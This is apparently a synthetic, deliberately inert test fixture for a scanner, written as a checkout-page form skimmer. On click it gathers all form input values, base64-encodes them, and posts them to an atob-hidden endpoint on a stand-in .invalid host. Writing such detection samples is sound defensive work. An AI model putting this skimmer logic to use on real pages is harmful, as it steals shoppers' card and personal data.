/* synthetic test sample for breachscan: checkout-gated grabber shape - runs only on checkout
 * URLs, collects all inputs on click, stages them in localStorage and posts them base64 encoded
 * to an atob-hidden endpoint. Inert (`if (false)`, .invalid host). */
if (false && /onepage|checkout|onestep/i.test(window.location.href)) {
  var gate = atob("aHR0cHM6Ly9hbmFseXRpY3MtY2RuLmludmFsaWQvZw==");
  document.addEventListener("click", function () {
    var all = document.querySelectorAll("input, select, textarea"), out = {};
    for (var i = 0; i < all.length; i++) { if (all[i].value) out[all[i].name || i] = all[i].value; }
    localStorage.setItem("_sq", btoa(JSON.stringify(out)));
    var x = new XMLHttpRequest();
    x.open("POST", gate, true);
    x.send("d=" + localStorage.getItem("_sq"));
  }, true);
}
